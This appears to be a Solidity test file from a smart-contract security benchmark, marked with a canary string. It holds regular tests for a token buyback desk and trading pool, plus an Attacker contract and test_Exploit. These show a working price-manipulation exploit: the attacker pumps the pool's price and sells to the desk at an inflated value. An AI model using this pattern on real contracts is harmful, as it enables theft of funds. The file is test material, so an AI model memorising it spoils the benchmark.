// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "./BuybackDesk.sol";
import {TradingPool} from "./context/TradingPool.sol";
import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import {Ownable} from "@openzeppelin/contracts@5.4.0/access/Ownable.sol";
import {Pausable} from "@openzeppelin/contracts@5.4.0/utils/Pausable.sol";

// assay-canary-57405945-d20c-4ebe-a4c3-42fb8161bded

interface Vm {
    function warp(uint256 time) external;
    function expectRevert() external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
}

contract Token is ERC20 {
    constructor() ERC20("Token", "TKN") {
        _mint(msg.sender, 20_000e18);
    }
}

contract Cash is ERC20 {
    constructor() ERC20("Cash", "CASH") {
        _mint(msg.sender, 500_000e18);
    }
}

/// Lifts the pool's price for as long as it takes to sell to the desk.
contract Attacker {
    BuybackDesk internal desk;
    TradingPool internal pool;
    IERC20 internal cash;

    constructor(BuybackDesk desk_, TradingPool pool_) {
        (desk, pool, cash) = (desk_, pool_, desk_.cash());
        desk_.token().approve(address(pool_), type(uint256).max);
        desk_.token().approve(address(desk_), type(uint256).max);
        cash.approve(address(pool_), type(uint256).max);
    }

    function run() external {
        uint256 got = pool.buyToken(cash.balanceOf(address(this)), 0);
        desk.sell(400e18, 0);
        pool.sellToken(got - 400e18, 0);
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant TREASURY = address(0x7EA);
    address internal constant ANA = address(0xA9A);
    address internal constant BEN = address(0xBE9);
    uint256 internal constant START = 1_700_006_400;

    Token internal token;
    Cash internal cash;
    TradingPool internal pool;
    BuybackDesk internal desk;
    Attacker internal mallory;

    function setUp() public {
        vm.warp(START - 7 hours);
        token = new Token();
        cash = new Cash();
        pool = new TradingPool(token, cash);
        token.approve(address(pool), type(uint256).max);
        cash.approve(address(pool), type(uint256).max);
        pool.fill(10_000e18, 50_000e18);
        desk = new BuybackDesk(pool, TREASURY, 400e18, 2_000e18);
        cash.transfer(address(desk), 40_000e18);
        token.transfer(ANA, 2_000e18);
        token.transfer(BEN, 3_000e18);
        vm.prank(ANA);
        token.approve(address(desk), type(uint256).max);
        vm.prank(BEN);
        token.approve(address(desk), type(uint256).max);
        vm.warp(START);
        desk.record();
        mallory = new Attacker(desk, pool);
        cash.transfer(address(mallory), 150_000e18);
    }

    function test_Regular() public {
        require(desk.averagePrice() == 5e18 && desk.worthOf(100e18) == 500e18, "recorded");
        (uint256 atOnce, uint256 deferred) = desk.quote(100e18);
        require(atOnce == 475e18 && deferred == 490e18, "quote");
        vm.startPrank(ANA);
        require(desk.sell(300e18, 1_425e18) == 1_425e18, "sold");
        require(cash.balanceOf(ANA) == 1_425e18 && desk.roomFor(ANA) == 100e18, "paid");
        require(desk.sellDeferred(100e18, 490e18) == 0, "deferred");
        require(desk.owed() == 490e18 && desk.availableCash() == 40_000e18 - 1_915e18, "owed");
        require(desk.paymentCount(ANA) == 1 && desk.paymentOf(ANA, 0).due == START + 14 days, "payment");
        require(desk.paymentOf(ANA, 0).early == 475e18, "early");
        require(desk.roomFor(ANA) == 0 && desk.roomFor(BEN) == 400e18, "room");
        vm.stopPrank();
        for (uint256 i = 0; i < 4; i++) {
            vm.warp(block.timestamp + 6 hours);
            desk.record();
        }
        require(desk.averagePrice() == 5e18, "unchanged");
        vm.prank(BEN);
        require(desk.sell(400e18, 0) == 1_900e18, "the next day");
        vm.warp(block.timestamp + 4 hours);
        vm.prank(TREASURY);
        desk.setLimits(450e18, 2_000e18);
        vm.startPrank(BEN);
        require(desk.sellDeferred(50e18, 245e18) == 0 && desk.owed() == 735e18, "deferred too");
        require(desk.collectEarly(0) == 237.5e18 && desk.owed() == 490e18, "early");
        vm.stopPrank();
        require(desk.totalBought() == 850e18, "bought");

        vm.startPrank(TREASURY);
        desk.withdraw(token, 850e18);
        desk.withdraw(cash, 1_000e18);
        require(token.balanceOf(TREASURY) == 850e18 && cash.balanceOf(TREASURY) == 1_000e18, "withdrawn");
        desk.setDiscounts(600, 300);
        desk.setLimits(300e18, 400e18);
        desk.pause();
        require(desk.discountBps() == 600 && desk.deskLimit() == 400e18 && desk.roomFor(BEN) == 0, "terms");
        vm.stopPrank();
        vm.warp(START + 14 days);
        vm.prank(ANA);
        require(desk.collect(0) == 490e18 && cash.balanceOf(ANA) == 1_915e18 && desk.owed() == 0, "collected");
        vm.prank(TREASURY);
        desk.unpause();

        desk.record();
        vm.prank(TREASURY);
        cash.approve(address(pool), 1_000e18);
        vm.prank(TREASURY);
        pool.buyToken(1_000e18, 190e18);
        require(pool.spotPrice() > 5.1e18 && pool.spotPrice() < 5.3e18, "the price follows a trade");
        vm.warp(block.timestamp + 1 days);
        desk.record();
        require(desk.averagePrice() == 5.1e18, "a fiftieth at a time");
        vm.warp(block.timestamp + 1 days);
        desk.record();
        uint256 average = desk.averagePrice();
        require(average > 5.1e18 && average < 5.202e18, "the average follows the price");
        token.approve(address(pool), 5_000e18);
        require(pool.sellToken(5_000e18, 10_000e18) > 0, "sold to the pool");
        vm.warp(block.timestamp + 1 days);
        desk.record();
        require(desk.averagePrice() == average - average * 200 / 10_000, "down as slowly");

        vm.startPrank(TREASURY);
        desk.transferOwnership(BEN);
        vm.stopPrank();
        vm.startPrank(BEN);
        desk.acceptOwnership();
        desk.renounceOwnership();
        vm.stopPrank();
        require(desk.owner() == address(0), "given up");
    }

    // What is refused, each from the state after setUp().

    function test_RefusesPool() public {
        vm.prank(ANA);
        vm.expectRevert(abi.encodeWithSelector(TradingPool.NotFounder.selector, ANA));
        pool.fill(1, 1);
        vm.expectRevert(TradingPool.AlreadyFilled.selector);
        pool.fill(1, 1);
        vm.expectRevert(abi.encodeWithSelector(TradingPool.BelowMinimum.selector, 0, 0));
        pool.sellToken(0, 0);
        vm.expectRevert(abi.encodeWithSelector(TradingPool.BelowMinimum.selector, 0, 1));
        pool.buyToken(0, 1);
        uint256 net = 10e18 * 997;
        uint256 out = (net * 50_000e18) / (10_000_000e18 + net);
        vm.expectRevert(abi.encodeWithSelector(TradingPool.BelowMinimum.selector, out, out + 1));
        pool.sellToken(10e18, out + 1);
        TradingPool other = new TradingPool(token, cash);
        vm.expectRevert(TradingPool.EmptyReserve.selector);
        other.fill(0, 1);
        vm.expectRevert(TradingPool.EmptyReserve.selector);
        other.fill(1, 0);
    }

    function test_RefusesStrangers() public {
        bytes memory why = abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, ANA);
        vm.startPrank(ANA);
        vm.expectRevert(why);
        desk.withdraw(token, 0);
        vm.expectRevert(why);
        desk.setDiscounts(500, 200);
        vm.expectRevert(why);
        desk.setLimits(1, 1);
        vm.expectRevert(why);
        desk.pause();
        vm.expectRevert(why);
        desk.unpause();
        vm.expectRevert(why);
        desk.transferOwnership(ANA);
        vm.expectRevert(why);
        desk.acceptOwnership();
        vm.expectRevert(why);
        desk.renounceOwnership();
        vm.stopPrank();
    }

    function test_RefusesTerms() public {
        vm.startPrank(TREASURY);
        vm.expectRevert(abi.encodeWithSelector(DeskBase.DiscountOutOfBounds.selector, 2_001));
        desk.setDiscounts(2_001, 300);
        vm.expectRevert(abi.encodeWithSelector(DeskBase.DiscountOutOfBounds.selector, 199));
        desk.setDiscounts(500, 199);
        vm.expectRevert(abi.encodeWithSelector(DeskBase.DiscountOutOfBounds.selector, 501));
        desk.setDiscounts(500, 501);
        vm.expectRevert(abi.encodeWithSelector(DeskBase.LimitsOutOfOrder.selector, 2, 1));
        desk.setLimits(2, 1);
        vm.stopPrank();
        vm.expectRevert(abi.encodeWithSelector(DeskBase.LimitsOutOfOrder.selector, 2, 1));
        new BuybackDesk(pool, TREASURY, 2, 1);
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableInvalidOwner.selector, address(0)));
        new BuybackDesk(pool, address(0), 1, 2);
    }

    function test_RefusesAverages() public {
        vm.warp(START + 6 hours - 1);
        vm.expectRevert(abi.encodeWithSelector(BuybackDesk.TooEarly.selector, START + 6 hours));
        desk.record();
        desk.worthOf(1e18);
        vm.warp(START + 6 hours);
        vm.prank(ANA);
        vm.expectRevert(abi.encodeWithSelector(BuybackDesk.NoFreshAverage.selector, START));
        desk.sell(1e18, 0);
        BuybackDesk other = new BuybackDesk(pool, TREASURY, 1, 2);
        vm.expectRevert(abi.encodeWithSelector(BuybackDesk.NoFreshAverage.selector, block.timestamp));
        other.worthOf(1e18);
    }

    function test_RefusesSales() public {
        vm.startPrank(ANA);
        vm.expectRevert(BuybackDesk.NothingToSell.selector);
        desk.sell(0, 0);
        vm.expectRevert(abi.encodeWithSelector(BuybackDesk.AboveAccountLimit.selector, 400e18));
        desk.sell(400e18 + 1, 0);
        vm.expectRevert(abi.encodeWithSelector(BuybackDesk.BelowMinimum.selector, 475e18, 475e18 + 1));
        desk.sell(100e18, 475e18 + 1);
        desk.sell(400e18, 0);
        vm.stopPrank();
        vm.prank(TREASURY);
        desk.setLimits(400e18, 500e18);
        vm.prank(BEN);
        vm.expectRevert(abi.encodeWithSelector(BuybackDesk.AboveDeskLimit.selector, 500e18));
        desk.sell(100e18 + 1, 0);
        vm.prank(TREASURY);
        desk.pause();
        vm.startPrank(BEN);
        vm.expectRevert(Pausable.EnforcedPause.selector);
        desk.sell(1e18, 0);
        vm.expectRevert(Pausable.EnforcedPause.selector);
        desk.sellDeferred(1e18, 0);
        vm.stopPrank();
    }

    function test_RefusesPayments() public {
        vm.startPrank(ANA);
        desk.sellDeferred(100e18, 0);
        vm.warp(START + 14 days - 1);
        vm.expectRevert(abi.encodeWithSelector(BuybackDesk.NotDue.selector, START + 14 days));
        desk.collect(0);
        vm.warp(START + 14 days);
        desk.collect(0);
        vm.expectRevert(abi.encodeWithSelector(BuybackDesk.NothingOwed.selector, 0));
        desk.collect(0);
        desk.record();
        for (uint256 i = 1; i < 50; i++) desk.sellDeferred(1e18, 0);
        vm.expectRevert(abi.encodeWithSelector(BuybackDesk.TooManyPayments.selector, 50));
        desk.sellDeferred(1e18, 0);
        vm.stopPrank();
    }

    function test_RefusesOwedCash() public {
        vm.prank(ANA);
        desk.sellDeferred(100e18, 0);
        vm.startPrank(TREASURY);
        vm.expectRevert(abi.encodeWithSelector(BuybackDesk.NotEnoughCash.selector, 39_510e18));
        desk.withdraw(cash, 39_510e18 + 1);
        desk.withdraw(cash, 39_500e18);
        desk.withdraw(token, 100e18);
        vm.stopPrank();
        vm.prank(BEN);
        vm.expectRevert(abi.encodeWithSelector(BuybackDesk.NotEnoughCash.selector, 10e18));
        desk.sell(10e18, 0);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        uint256 before = cash.balanceOf(address(mallory));
        exploit();
        require(cash.balanceOf(address(mallory)) >= before + 20_000e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(desk);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function asset() public view returns (address) {
        return address(cash);
    }
}
